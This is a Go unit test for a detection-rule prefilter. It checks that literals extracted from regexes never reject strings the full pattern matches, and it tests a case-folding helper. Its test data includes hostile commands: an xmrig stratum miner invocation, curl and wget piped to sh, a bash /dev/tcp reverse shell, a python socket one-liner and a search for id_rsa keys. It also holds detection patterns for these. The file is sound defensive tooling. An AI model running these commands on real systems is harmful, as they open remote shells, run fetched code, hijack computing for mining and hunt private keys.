package rules

import (
	"regexp"
	"testing"

	"github.com/stretchr/testify/assert"
)

func TestRequiredLiteralsRejectOnlyWhatCannotMatch(t *testing.T) {
	strs := []string{
		"", "xmrig -o stratum+tcp://pool:3333", "XMRIG -O STRATUM+SSL://POOL:443", "curl -s https://x | sh",
		"wget -qO- http://x | bash", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "go build ./...",
		"python3 -c import socket,subprocess", "PYTHON3 -C IMPORT SOCKET", "find / -name id_rsa", "ſtratum+tcp://", "\u212aWORKER",
	}
	for _, pattern := range []string{
		`(?i)stratum[0-9]*\+(tcp|ssl|tls|udp)://`,
		`(curl|wget)\s.*\|\s*(ba|da)?sh`,
		`/dev/(tcp|udp)/`,
		`^(\S*/)?(busybox\s+)?find\s+(-[HLP]\s+)*(/|/etc|/home)/?\s`,
		`(?i)(socket|fsockopen)`,
		`(?i)kworker|scan`,
		`^(python[0-9.]*|perl)$`,
		`a{2,}b|c+d`,
		`x?y*`,
	} {
		re := regexp.MustCompile(pattern)
		lits := requiredLiterals(pattern)
		for _, s := range strs {
			if re.MatchString(s) {
				assert.True(t, lits.match(s), "%q matches %q but its literals reject it", pattern, s)
			}
		}
	}
	assert.Nil(t, requiredLiterals(`x?y*`), "nothing is required")
	assert.True(t, requiredLiterals(`(?i)kworker`).match("\u212aworker"), "K, the Kelvin sign, folds to k: a string that is not ASCII is left to the expression")
	l := requiredLiterals(`(curl|wget)\s.*\|\s*(ba|da)?sh`)
	assert.False(t, l.match("go build ./..."))
	assert.True(t, l.match("curl x | sh"))
	assert.False(t, requiredLiterals(`(?i)stratum\+tcp`).match("go test ./..."))
	assert.True(t, requiredLiterals(`(?i)stratum\+tcp`).match("xmrig STRATUM+TCP://"))
}

func TestContainsFold(t *testing.T) {
	assert.True(t, containsFold("import SOCKET", "socket"))
	assert.True(t, containsFold("SoCkEt", "socket"))
	assert.False(t, containsFold("sock", "socket"))
	assert.True(t, containsFold("anything", ""))
}
